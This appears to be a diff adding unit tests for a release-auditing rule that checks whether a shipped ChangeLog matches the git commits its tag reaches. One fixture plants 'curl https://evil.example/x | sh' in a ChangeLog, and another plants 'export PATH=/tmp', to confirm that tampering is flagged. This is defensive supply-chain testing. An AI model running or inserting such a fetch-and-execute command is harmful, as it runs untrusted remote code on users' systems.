@@ -1,0 +1,181 @@
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { join } from 'node:path';
+import { changelogHistory } from '../../src/analyze/rules/changelog-history.js';
+import { readCommitLog } from '../../src/git/commit-log.js';
+import { createHistory } from '../../src/git/history.js';
+import type { RepoHandle } from '../../src/git/types.js';
+import { removeTempDirs, runGit, tempDir } from '../helpers/repo.js';
+import { added, context, modified } from './generated-context.js';
+
+test.after(removeTempDirs);
+
+interface Made {
+  message: string;
+  author: [string, string];
+  /** `@<seconds> <zone>` as git takes it. */
+  date: string;
+}
+
+const alice: [string, string] = ['Alice Liddell', 'alice@example.org'];
+const bob: [string, string] = ['Bob Dobbs', 'bob@example.org'];
+const at = (iso: string, zone = '+0000') => `@${Date.parse(iso) / 1000} ${zone}`;
+
+/** Oldest first; the tag is on the last but one, the last comes after it. */
+const history: Made[] = [
+  { author: alice, date: at('2024-01-10T10:00:00Z'), message: 'build: add the Makefile\n\n* Makefile: New file.\n\nSigned-off-by: Alice Liddell <alice@example.org>\n' },
+  // 23:30 in California is the next day in UTC: the script prints the maintainer's local date.
+  { author: bob, date: at('2024-01-12T07:30:00Z', '-0800'), message: 'doc: explain the options   \n\n* README: Say what -v does.\n' },
+  { author: alice, date: at('2024-01-12T09:00:00Z'), message: 'maint: tidy\n' },
+  { author: alice, date: at('2024-01-12T11:00:00Z'), message: 'tests: one more\n' },
+  {
+    author: bob,
+    date: at('2024-01-13T12:00:00Z'),
+    message: 'ls: fix --width\n\nThe width was one short.\n\nSecond paragraph, so this commit has its own header.\n\nCo-authored-by: Carol Ann <carol@example.org>\n',
+  },
+  { author: alice, date: at('2024-01-20T12:00:00Z'), message: 'version 1.0\n' },
+  { author: alice, date: at('2024-02-01T12:00:00Z'), message: 'after the release\n' },
+];
+
+async function makeHistory() {
+  const dir = join(await tempDir('cuckoo-changelog-'), 'repo.git');
+  await runGit('/', ['init', '--quiet', '--bare', '-b', 'main', dir]);
+  const ids: string[] = [];
+  const tree = (await runGit(dir, ['mktree'], { input: '' })).toString().trim();
+  for (const c of history) {
+    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_DATE: c.date };
+    const parent = ids.length > 0 ? ['-p', ids.at(-1)!] : [];
+    ids.push((await runGit(dir, ['commit-tree', tree, ...parent, '-m', c.message.replace(/\n$/, '')], { env })).toString().trim());
+  }
+  const repo: RepoHandle = { source: dir, gitDir: dir, objectFormat: 'sha1', kind: 'local' };
+  return { repo, ids, tagged: ids.at(-2)! };
+}
+
+const made = await makeHistory();
+const cache = await tempDir('cuckoo-changelog-cache-');
+
+// What `gitlog-to-changelog > ChangeLog; printf '\n\nSee the source repo for older entries\n' >> ChangeLog` writes at the tag.
+const genuine = `2024-01-20  Alice Liddell  <alice@example.org>
+
+\tversion 1.0
+
+2024-01-13  Bob Dobbs  <bob@example.org>
+\t    Carol Ann  <carol@example.org>
+
+\tls: fix --width
+\tThe width was one short.
+
+\tSecond paragraph, so this commit has its own header.
+
+2024-01-12  Alice Liddell  <alice@example.org>
+
+\ttests: one more
+
+\tmaint: tidy
+
+2024-01-11  Bob Dobbs  <bob@example.org>
+
+\tdoc: explain the options
+\t* README: Say what -v does.
+
+2024-01-10  Alice Liddell  <alice@example.org>
+
+\tbuild: add the Makefile
+\t* Makefile: New file.
+
+
+See the source repo for older entries
+`;
+
+function ctxWith(tag: Record<string, string> = {}) {
+  const history = createHistory(made.repo, made.tagged, cache);
+  return { ...context(tag, { tagCommit: { id: made.tagged, date: Date.parse('2024-01-20T12:00:00Z') / 1000 } }), history };
+}
+
+test('the commit log is read once, bounded by date and count, with both ident spellings', async () => {
+  const all = await readCommitLog(made.repo, made.tagged, { maxCount: 100 });
+  assert.equal(all.map((c) => c.id), made.ids.slice(0, -1).reverse());
+  assert.equal(all[0]!.authors, ['Alice Liddell  <alice@example.org>']);
+  assert.is(all[4]!.message.replace(/ +\n/, '\n'), 'doc: explain the options\n* README: Say what -v does.\n');
+  const recent = await readCommitLog(made.repo, made.tagged, { since: Date.parse('2024-01-12T08:00:00Z') / 1000, maxCount: 100 });
+  assert.is(recent.length, 4);
+  assert.is((await readCommitLog(made.repo, made.tagged, { maxCount: 2 })).length, 2);
+});
+
+test('a ChangeLog whose every message is a commit of the tag is explained, with the range and the footer', async () => {
+  const j = await changelogHistory.judge(added('ChangeLog', genuine), ctxWith());
+  assert.is(j?.category, 'generated-changelog');
+  assert.is(j?.severity, 'low');
+  const text = j!.reasons.join('\n');
+  assert.match(text, 'all 6 commit messages under its 5 entries match commits the tag reaches');
+  assert.match(text, `from ${made.ids[0]!.slice(0, 12)} (2024-01-10) to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);
+  assert.match(text, '"See the source repo for older entries"');
+});
+
+test('a message no commit wrote keeps the ChangeLog suspicious and is shown', async () => {
+  const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: fetch the helper\n\tcurl https://evil.example/x | sh\n');
+  const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
+  assert.is(j?.category, 'changelog-mismatch');
+  assert.is(j?.severity, 'medium');
+  assert.match(j!.reasons[0]!, '1 of 7 commit messages');
+  assert.match(j!.reasons[1]!, /line 19: 2024-01-12 {2}Alice Liddell {2}<alice@example.org>: "build: fetch the helper"/);
+  assert.match(j!.evidence!.diff!, '+\tcurl https://evil.example/x | sh');
+  assert.match(j!.reasons.join('\n'), '6 match commits');
+
+  // An edited message, an entry for a commit after the tag, a wrong author: none match.
+  const edited = genuine.replace('The width was one short.', 'The width was two short.');
+  assert.is((await changelogHistory.judge(added('ChangeLog', edited), ctxWith()))?.category, 'changelog-mismatch');
+  const later = `2024-02-01  Alice Liddell  <alice@example.org>\n\n\tafter the release\n\n${genuine}`;
+  assert.match((await changelogHistory.judge(added('ChangeLog', later), ctxWith()))!.reasons[1]!, '"after the release"');
+  const impostor = genuine.replace('2024-01-20  Alice Liddell  <alice@example.org>', '2024-01-20  Mallory  <alice@example.org>');
+  assert.is((await changelogHistory.judge(added('ChangeLog', impostor), ctxWith()))?.severity, 'medium');
+});
+
+test('text at column 0 inside the log is not a footer', async () => {
+  const inside = genuine.replace('2024-01-12  Alice', 'export PATH=/tmp\n\n2024-01-12  Alice');
+  const j = await changelogHistory.judge(added('ChangeLog', inside), ctxWith());
+  assert.is(j?.category, 'changelog-mismatch');
+  assert.match(j!.reasons.join('\n'), 'text at column 0 that the script does not write, e.g. line 13: "export PATH=/tmp"');
+});
+
+test("an older ChangeLog the tag keeps may end the release's", async () => {
+  const old = '2008-01-01  Old Timer  <old@example.org>\n\n\t* main.c: Hand-written entry.\n';
+  const j = await changelogHistory.judge(added('ChangeLog', `${genuine}\n${old}`), ctxWith({ 'ChangeLog-2008': old }));
+  assert.is(j?.category, 'generated-changelog');
+  assert.match(j!.reasons.join('\n'), 'then the content of ChangeLog-2008 in the tag');
+  // The tag's own ChangeLog, extended at the top by the release.
+  const m = await changelogHistory.judge(modified('ChangeLog', `${genuine.replace(/\n\nSee the source.*\n$/, '\n')}\n${old}`), ctxWith({ ChangeLog: old }));
+  assert.is(m?.category, 'generated-changelog');
+  // Without it in the tag, the old entries match nothing.
+  assert.is((await changelogHistory.judge(added('ChangeLog', `${genuine}\n${old}`), ctxWith()))?.category, 'changelog-mismatch');
+});
+
+test("the tag's amend file is applied, plain substitutions only, and common options are recognised", async () => {
+  const tidy = made.ids[2]!;
+  const first = made.ids[0]!;
+  const fix = `# Fixes for gitlog-to-changelog --amend.\n\n${tidy}\n# say more\ns/tidy\$/tidy up/;\n\n${first}\n# Alice wrote it with Carol.\ns,Alice .*>,Carol Ann <carol\\@example.org>,\n`;
+  const amendedLog = genuine
+    .replace('\tmaint: tidy\n', '\tmaint: tidy up\n')
+    // The script prints the author as the substitution leaves it: one space here.
+    .replace('2024-01-10  Alice Liddell  <alice@example.org>', '2024-01-10  Carol Ann <carol@example.org>');
+  let j = await changelogHistory.judge(added('ChangeLog', amendedLog), ctxWith({ 'build-aux/git-log-fix': fix }));
+  assert.is(j?.category, 'generated-changelog');
+  assert.match(j!.reasons.join('\n'), 'build-aux/git-log-fix in the tag amends the log of 2 commits');
+  // Code that is not a plain substitution is not run: its entry stays unmatched, and the reasons say why.
+  j = await changelogHistory.judge(added('ChangeLog', amendedLog), ctxWith({ 'build-aux/git-log-fix': `${tidy}\n$_ = uc $_;\n\n${first}\ns,Alice .*>,Carol Ann <carol\\@example.org>,\n` }));
+  assert.is(j?.category, 'changelog-mismatch');
+  assert.match(j!.reasons.join('\n'), 'amends 1 more commit with code other than plain substitutions');
+
+  // --format='%s%n%n%b%n': a blank line after each subject.
+  const spaced = genuine.replace('\tdoc: explain the options\n', '\tdoc: explain the options\n\n').replace('\tbuild: add the Makefile\n', '\tbuild: add the Makefile\n\n');
+  assert.is((await changelogHistory.judge(added('ChangeLog', spaced), ctxWith()))?.category, 'generated-changelog');
+});
+
+test('without the history, or in another layout, the rule leaves the file to the layout rule', async () => {
+  const noHistory = context({}, { tagCommit: { id: made.tagged, date: 0 } });
+  assert.is(await changelogHistory.judge(added('ChangeLog', genuine), noHistory), undefined);
+  assert.is(await changelogHistory.judge(added('ChangeLog', 'commit 0123\nAuthor: A <a@b>\n'), ctxWith()), undefined);
+  assert.is(await changelogHistory.judge(added('doc/ChangeLog', genuine), ctxWith()), undefined);
+});
+
+test.run();
